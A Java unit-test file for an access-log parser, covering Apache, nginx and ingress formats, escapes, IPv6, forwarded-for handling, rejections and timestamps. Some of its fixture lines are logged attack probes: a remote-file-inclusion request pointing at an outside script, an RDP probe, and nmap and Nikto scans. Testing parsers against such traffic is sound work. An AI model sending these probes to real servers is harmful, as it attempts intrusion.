package io.logpulse.ingest.parse;

import static io.logpulse.ingest.parse.LineFormatTest.parsed;
import static org.assertj.core.api.Assertions.assertThat;

import io.logpulse.schemas.AccessEvent;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import org.junit.jupiter.api.Test;

/**
 * Hard cases for compiled format strings, drawn from real lines of {@code ../shared/data} (file
 * and line number in the comment above each).
 */
class CompiledFormatHardCasesTest {

  private static final LineContext CONTEXT = new LineContext("test", null, false);
  private static final LineFormat APACHE_COMMON = LineFormat.preset("apache_common");
  private static final LineFormat APACHE_COMBINED = LineFormat.preset("apache_combined");
  private static final LineFormat NGINX_COMBINED = LineFormat.preset("nginx_combined");
  private static final LineFormat INGRESS = LineFormat.preset("ingress_nginx_upstreaminfo");

  @Test
  void apacheEscapedQuoteAndBackslashStayInsideTheRequest() {
    // messy-crowdsec/apache2/apache-http-probing__apache-http-probing.log:45
    String line =
        "172.17.0.1 - - [29/Sep/2021:12:37:05 +0000] \"GET"
            + " /sys/code/box.inc.php?config[\\\\\\\"sipssys\\\\\\\"]=http://cirt.net/rfiinc.txt?"
            + " HTTP/1.1\" 404 196";
    AccessEvent event = parsed(APACHE_COMMON, line);
    assertThat(event.getUrlOriginal())
        .isEqualTo("/sys/code/box.inc.php?config[\\\\\\\"sipssys\\\\\\\"]=http://cirt.net/rfiinc.txt?");
    assertThat(event.getHttpVersion()).isEqualTo("1.1");
    assertThat(event.getHttpResponseStatusCode()).isEqualTo(404);
    assertThat(event.getLogFormat()).isEqualTo("apache_common");
  }

  @Test
  void apacheHexEscapesInTheReferrerAndDashSize() {
    // apache-combined-elastic/apache_logs:5851
    AccessEvent event =
        parsed(
            APACHE_COMBINED,
            "201.242.142.135 - - [19/May/2015:11:05:10 +0000] \"GET /files/logstash/ HTTP/1.0\""
                + " 200 13316 \"http://\\xe4\\xe5\\xe3\\xf2\\xff\\xf0\\xed\\xee\\xe5-\\xec\\xfb"
                + "\\xeb\\xee.\\xf0\\xf4/\" \"Mozilla/5.0 (Windows NT 6.1; rv:11.0)"
                + " Gecko/20100101 Firefox/11.0\"");
    assertThat(event.getHttpRequestReferrer()).startsWith("http://\\xe4\\xe5").endsWith("\\xf4/");
    // apache-combined-elastic/apache_logs:77 ('-' size means 0 bytes for %b)
    AccessEvent dash =
        parsed(
            APACHE_COMBINED,
            "218.30.103.62 - - [17/May/2015:11:05:11 +0000] \"GET /robots.txt HTTP/1.1\" 200 -"
                + " \"-\" \"Sogou web spider/4.0(+http://www.sogou.com/docs/help/webmasters.htm#07)\"");
    assertThat(dash.getHttpResponseBodyBytes()).isZero();
    assertThat(dash.getHttpRequestReferrer()).isNull();
  }

  @Test
  void nginxHexEscapedQuoteBinaryProbesEmptyRequestAndNoProtocol() {
    // nginx-combined-ployt0/access.log:5874 (nginx writes '"' as \x22)
    AccessEvent quote =
        parsed(
            NGINX_COMBINED,
            "172.105.85.90 - - [05/Sep/2022:14:52:48 +0000] \"GET /nmaplowercheck1662389561"
                + " HTTP/1.1\" 404 22 \"-\" \"\\x22Mozilla/5.0\"");
    assertThat(quote.getUserAgentOriginal()).isEqualTo("\\x22Mozilla/5.0");
    // nginx-combined-ployt0/access.log:147 (RDP probe)
    AccessEvent rdp =
        parsed(
            NGINX_COMBINED,
            "62.233.50.0 - - [02/Sep/2022:03:33:24 +0000] \"\\x03\\x00\\x00/*\\xE0\\x00\\x00\\x00"
                + "\\x00\\x00Cookie: mstshash=Administr\" 400 157 \"-\" \"-\"");
    assertThat(rdp.getHttpRequestMethod()).isNull();
    assertThat(rdp.getUrlOriginal()).startsWith("\\x03\\x00").endsWith("mstshash=Administr");
    assertThat(rdp.getUserAgentOriginal()).isNull();
    // nginx-combined-ployt0/access.log:1949 (empty request)
    AccessEvent empty =
        parsed(NGINX_COMBINED, "76.72.172.0 - - [03/Sep/2022:02:43:16 +0000] \"\" 400 0 \"-\" \"-\"");
    assertThat(empty.getUrlOriginal()).isNull();
    assertThat(empty.getHttpResponseBodyBytes()).isZero();
    // nginx-combined-ployt0/access.log:1172 (no protocol, not HTTP)
    AccessEvent ssh =
        parsed(
            NGINX_COMBINED,
            "192.241.213.0 - - [02/Sep/2022:20:01:52 +0000] \"SSH-2.0-Go\" 400 157 \"-\" \"-\"");
    assertThat(ssh.getUrlOriginal()).isEqualTo("SSH-2.0-Go");
    assertThat(ssh.getHttpVersion()).isNull();
    // nginx-combined-ployt0/access.log:12 (HTTP/2.0)
    AccessEvent http2 =
        parsed(
            NGINX_COMBINED,
            "51.81.167.0 - - [01/Sep/2022:22:14:27 +0000] \"GET / HTTP/2.0\" 200 26360 \"-\""
                + " \"Mozilla/5.0 (iPhone)\"");
    assertThat(http2.getHttpVersion()).isEqualTo("2.0");
  }

  @Test
  void ipv6ClientsAndPorts() {
    // messy-crowdsec/nginx/ipv6-postoverflow__ipv6-postoverflow.log:1
    AccessEvent v6 =
        parsed(
            NGINX_COMBINED,
            "2001:0db8:85a3:0000:0000:8a2e:0370:7334 - - [29/Sep/2021:14:11:34 +0200] \"HEAD /"
                + " HTTP/1.1\" 200 0 \"-\" \"Mozilla/5.00 (Nikto/2.1.5) (Evasions:None) (Test:Port"
                + " Check)\"");
    assertThat(v6.getSourceAddress()).isEqualTo("2001:0db8:85a3:0000:0000:8a2e:0370:7334");
    assertThat(v6.getSourceIp()).isEqualTo("2001:db8:85a3::8a2e:370:7334");
    assertThat(v6.getTimestamp()).isEqualTo(Instant.parse("2021-09-29T12:11:34Z"));
    LineFormat withPort = LineFormat.nginx("$remote_addr [$time_local] $status");
    assertThat(parsed(withPort, "1.2.3.4:80 [12/Apr/2018:09:48:40 +0200] 400").getSourceIp())
        .isEqualTo("1.2.3.4");
    AccessEvent bracketed = parsed(withPort, "[2A02:CF40::7]:5000 [12/Apr/2018:09:48:40 +0200] 400");
    assertThat(bracketed.getSourceAddress()).isEqualTo("[2A02:CF40::7]:5000");
    assertThat(bracketed.getSourceIp()).isEqualTo("2a02:cf40::7");
  }

  @Test
  void vhostPrefixSetsTheDomain() {
    // messy-elastic-beats/apache-access__test-vhost.log:1 has "%v %h ..." (no port)
    LineFormat vhost =
        LineFormat.apache("%v %h %l %u %t \"%r\" %>s %b \"%{Referer}i\" \"%{User-Agent}i\"");
    AccessEvent event =
        parsed(
            vhost,
            "vhost1.domaine.fr 192.168.33.2 - - [26/Dec/2016:16:22:14 +0000] \"GET /hello"
                + " HTTP/1.1\" 404 499 \"-\" \"Mozilla/5.0 (Macintosh; Intel Mac OS X 10.12;"
                + " rv:50.0) Gecko/20100101 Firefox/50.0\"");
    assertThat(event.getUrlDomain()).isEqualTo("vhost1.domaine.fr");
    assertThat(event.getSourceIp()).isEqualTo("192.168.33.2");
    AccessEvent preset =
        parsed(
            LineFormat.preset("apache_vhost_combined"),
            "WWW.Example.org:443 192.168.33.2 - - [26/Dec/2016:16:22:14 +0000] \"GET /hello"
                + " HTTP/1.1\" 404 730 \"-\" \"curl/8\"");
    assertThat(preset.getUrlDomain()).isEqualTo("www.example.org");
    assertThat(preset.getHttpResponseBytes()).isEqualTo(730L);
    assertThat(preset.getHttpResponseBodyBytes()).isNull();
  }

  @Test
  void forwardedForChainGivesTheFirstGlobalAddressAsClientIp() {
    // messy-elastic-beats/nginx-access__test-with-host.log:3 has the list "10.0.0.2, 10.0.0.1,
    // 85.181.35.98" before the client; nginx_main logs it as "$http_x_forwarded_for".
    AccessEvent event =
        parsed(
            LineFormat.preset("nginx_main"),
            "172.17.0.1 - - [07/Dec/2016:11:05:07 +0100] \"GET /ocelot HTTP/1.1\" 200 571 \"-\""
                + " \"Mozilla/5.0\" \"10.0.0.2, 100.64.1.1, 85.181.35.98, 8.8.8.8\"");
    assertThat(event.getHttpRequestHeaderXForwardedFor())
        .isEqualTo("10.0.0.2, 100.64.1.1, 85.181.35.98, 8.8.8.8");
    assertThat(event.getSourceIp()).isEqualTo("172.17.0.1");
    assertThat(event.getClientIp()).isEqualTo("85.181.35.98");
    AccessEvent privateOnly =
        parsed(
            LineFormat.preset("nginx_main"),
            "172.17.0.1 - - [07/Dec/2016:11:05:07 +0100] \"GET / HTTP/1.1\" 200 1 \"-\" \"-\""
                + " \"10.0.0.2, fd00::1, 192.0.2.7\"");
    assertThat(privateOnly.getClientIp()).isEqualTo("172.17.0.1");
  }

  @Test
  void ingressUpstreamListsKeptRawWithSumAndLastStatus() {
    // messy-elastic-beats/nginx-ingress_controller__test.log:26
    AccessEvent event =
        parsed(
            INGRESS,
            "2a02:cf40::4e36 - - [24/Aug/2022:18:05:41 +0000] \"GET /favicon.ico HTTP/2.0\" 502 552"
                + " \"https://localhost:8080/\" \"Mozilla/5.0 (Macintosh)\" 27 0.000"
                + " [localhost-8080] [] [2a02:cf40::7]:5000, [2a02:cf40::4e36]:5000 0, 0 0.000,"
                + " 0.000 502, 502 3db73c6c673c4256ade033a6ce08c2ab");
    assertThat(event.getUpstreamAddress()).isEqualTo("[2a02:cf40::7]:5000, [2a02:cf40::4e36]:5000");
    assertThat(event.getUpstreamResponseTime()).isEqualTo("0.000, 0.000");
    assertThat(event.getUpstreamStatus()).isEqualTo("502, 502");
    assertThat(event.getUpstreamStatusCode()).isEqualTo(502);
    assertThat(event.getUpstreamDuration()).isZero();
    assertThat(event.getHttpRequestId()).isEqualTo("3db73c6c673c4256ade033a6ce08c2ab");
    assertThat(event.getHttpRequestBytes()).isEqualTo(27L);
    assertThat(event.getEventDuration()).isZero();
    // internal redirect groups, " : " (format documented in ngx_http_upstream_module)
    AccessEvent redirected =
        parsed(
            INGRESS,
            "10.0.0.1 - - [24/Aug/2022:18:05:41 +0000] \"GET / HTTP/1.1\" 200 5 \"-\" \"-\" 27"
                + " 0.250 [svc-80] [] 10.1.0.1:80, 10.1.0.2:80 : 10.1.0.3:80 - 0.001, 0.002 : 0.120"
                + " 502, 504 : 200 abc");
    assertThat(redirected.getUpstreamAddress()).isEqualTo("10.1.0.1:80, 10.1.0.2:80 : 10.1.0.3:80");
    assertThat(redirected.getUpstreamStatus()).isEqualTo("502, 504 : 200");
    assertThat(redirected.getUpstreamStatusCode()).isEqualTo(200);
    assertThat(redirected.getUpstreamDuration()).isEqualTo(123_000_000L);
    assertThat(redirected.getEventDuration()).isEqualTo(250_000_000L);
  }

  @Test
  void longLinesAndTheLineLimit() {
    // nginx-combined-ployt0/access.log:6233 is 4,157 characters; here a 9,000-character target
    String target = "/" + "a".repeat(9_000);
    String line =
        "1.2.3.4 - - [01/Sep/2022:22:12:45 +0000] \"GET " + target + " HTTP/1.1\" 414 0 \"-\" \"-\"";
    assertThat(parsed(NGINX_COMBINED, line).getUrlOriginal()).isEqualTo(target);
    assertThat(new AccessLogParser(8_192, NGINX_COMBINED).parse(line, CONTEXT))
        .isInstanceOfSatisfying(
            ParseResult.Rejected.class,
            rejected -> assertThat(rejected.reason()).isEqualTo(RejectReason.LINE_TOO_LONG));
  }

  @Test
  void invalidUtf8NeverCrashes() {
    byte[] bytes =
        "1.2.3.4 - - [01/Sep/2022:22:12:45 +0000] \"GET /\u00e9 HTTP/1.1\" 200 1 \"-\" \"x\""
            .getBytes(StandardCharsets.UTF_8);
    bytes[bytes.length - 2] = (byte) 0xC3; // truncated sequence
    bytes[52] = (byte) 0xFF;
    String line = new String(bytes, StandardCharsets.UTF_8);
    for (String name : LineFormat.presetNames()) {
      assertThat(new AccessLogParser(1_000, LineFormat.preset(name)).parse(line, CONTEXT))
          .isNotNull();
    }
  }

  @Test
  void rejectionsNameTheFieldAndColumn() {
    AccessLogParser parser = new AccessLogParser(1_000, NGINX_COMBINED);
    assertThat(
            parser.parse(
                "1.2.3.4 - - [01/Sep/2022:22:12:45 +0000] \"GET / HTTP/1.1\" 600 1 \"-\" \"x\"",
                CONTEXT))
        .isEqualTo(
            new ParseResult.Rejected(
                RejectReason.INVALID_STATUS_CODE,
                "status code '600' ($status) at column 59 is outside 100-599"));
    assertThat(
            parser.parse(
                "1.2.3.4 - - [01/Sep/2022:22:12:45 +0000] \"GET / HTTP/1.1\" 200 x1 \"-\" \"x\"",
                CONTEXT))
        .isEqualTo(
            new ParseResult.Rejected(
                RejectReason.INVALID_NUMBER,
                "body bytes $body_bytes_sent 'x1' at column 63 is not a number of bytes (up to 18"
                    + " digits) or '-'"));
    assertThat(
            parser.parse(
                "1.2.3.4 - - [01/Sep/2022:22:12:45 +0000] \"GET / HTTP/1.1\" 200 1 \"-\" \"x",
                CONTEXT))
        .isEqualTo(
            new ParseResult.Rejected(
                RejectReason.MALFORMED_FIELDS,
                "no closing quote followed by '\"' for the user agent field $http_user_agent opened"
                    + " at column 69"));
    assertThat(
            parser.parse(
                "1.2.3.4 - - [01/Sepx2022:22:12:45 +0000] \"GET / HTTP/1.1\" 200 1 \"-\" \"x\"",
                CONTEXT))
        .isInstanceOfSatisfying(
            ParseResult.Rejected.class,
            rejected -> {
              assertThat(rejected.reason()).isEqualTo(RejectReason.MALFORMED_TIMESTAMP);
              assertThat(rejected.message()).contains("$time_local", "column 14");
            });
  }

  @Test
  void timestampsIsoAndEpochWithFractions() {
    LineFormat iso = LineFormat.nginx("$remote_addr $time_iso8601 $status $request_time");
    AccessEvent event = parsed(iso, "10.0.0.1 2022-09-01T22:12:45-02:30 200 0.123");
    assertThat(event.getTimestamp()).isEqualTo(Instant.parse("2022-09-02T00:42:45Z"));
    assertThat(event.getEventDuration()).isEqualTo(123_000_000L);
    LineFormat msec = LineFormat.nginx("$msec $remote_addr \"$request\" $status");
    assertThat(parsed(msec, "1662070365.123 10.0.0.1 \"GET / HTTP/1.1\" 204").getTimestamp())
        .isEqualTo(Instant.ofEpochMilli(1_662_070_365_123L));
    LineFormat apacheEpoch =
        LineFormat.apache("%a %{msec}t %{usec}t %D %{ms}T %m %U%q %H %>s %I %O %L %{Host}i");
    AccessEvent separate =
        parsed(
            apacheEpoch,
            "10.0.0.1 1662070365123 1662070365123456 2500 3 POST /p?q=1 HTTP/1.1 201 10 20 id-1"
                + " Example.com:8080");
    assertThat(separate.getTimestamp()).isEqualTo(Instant.ofEpochMilli(1_662_070_365_123L));
    assertThat(separate.getEventDuration()).isEqualTo(3_000_000L);
    assertThat(separate.getHttpRequestMethod()).isEqualTo("POST");
    assertThat(separate.getUrlOriginal()).isEqualTo("/p?q=1");
    assertThat(separate.getUrlQuery()).isEqualTo("q=1");
    assertThat(separate.getHttpVersion()).isEqualTo("1.1");
    assertThat(separate.getHttpRequestBytes()).isEqualTo(10L);
    assertThat(separate.getHttpResponseBytes()).isEqualTo(20L);
    assertThat(separate.getHttpRequestId()).isEqualTo("id-1");
    assertThat(separate.getUrlDomain()).isEqualTo("example.com");
  }
}
